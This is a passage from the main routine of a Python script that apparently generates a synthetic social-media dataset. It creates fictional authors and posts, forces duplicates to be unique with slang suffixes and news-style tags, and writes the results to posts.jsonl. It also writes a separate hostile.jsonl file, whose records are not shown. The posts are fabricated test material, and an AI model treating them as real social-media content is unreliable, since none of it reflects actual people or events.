              f"{CONCERNED[a.handle].handle if a.handle in CONCERNED else '-'}")


# --------------------------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------------------------

VARIANTS = ["!!", " haha", " tbh", " honestly", " lol", " fr", " 🙌", " ❤️", " 💀", "!", " lmao", " 😂", " ugh",
            " for real", " 🥲", " ngl", " 👀", " 100%"]


def news_variants(p: Post) -> list[str]:
    """Outlets covering the same story write it differently: a dateline, an update tag."""
    town = (p.author.outlet[0] or "").upper()
    head, _, rest = p.text.partition("\n\n")
    out = []
    if rest and town:
        out.append(f"{head}\n\n{town} ({p.author.name}) - {rest}")
    for tag in ("UPDATE: ", "LIVE: ", "Latest: ", "What we know: "):
        out.append(tag + p.text)
    return out


def main() -> None:
    authors = build_authors()
    ALL_AUTHORS[:] = authors
    for s in SOURCES:
        SOURCE_AUTHORS[s] = [a for a in authors if a.source == s and a.kind != "news"]
    for a in authors:
        if a.source == "telegram":
            for chat in {a.home, a.dark} - {""}:
                CHAT_MEMBERS.setdefault(chat, []).append(a)
    primary = sorted(schedule(authors), key=lambda p: (p.t, p.author.handle))
    seen = SEEN
    for p in primary:
        for attempt in range(12):
            p.lang, p.community = "en", ""
            write_post(p)
            if norm(p.text) not in seen:
                break
        if p.author.kind == "news" and norm(p.text) in seen:
            for variant in news_variants(p):
                if norm(variant) not in seen:
                    p.text = variant
                    break
        while norm(p.text) in seen:
            p.text = p.text.rstrip(".!") + rng.choice(VARIANTS)
        seen.add(norm(p.text))
        if p.author.source == "telegram" and not p.community:
            p.community = p.author.home
        if p.author.source == "reddit" and not p.community:
            p.community = SUB_FOR[p.topic] if p.topic in SUB_FOR and rng.random() < 0.5 else p.author.home
    replies = generate_replies(primary)
    posts = sorted((p for p in primary + replies if START <= p.t < END), key=lambda p: (p.t, p.author.handle))
    assign_ids(posts)
    add_geo(posts)
    with open(HERE / "posts.jsonl", "w", encoding="utf-8", newline="\n") as fh:
        for p in posts:
            fh.write(json.dumps(to_record(p), ensure_ascii=False) + "\n")
    with open(HERE / "hostile.jsonl", "w", encoding="utf-8", newline="\n") as fh:
        for rec in hostile_records():
            try:
                line = json.dumps(rec, ensure_ascii=False)
                line.encode("utf-8")
            except UnicodeEncodeError:  # lone surrogates can only travel as \uXXXX escapes
                line = json.dumps(rec, ensure_ascii=True)
            fh.write(line + "\n")
    self_check(posts, authors)


if __name__ == "__main__":
    main()
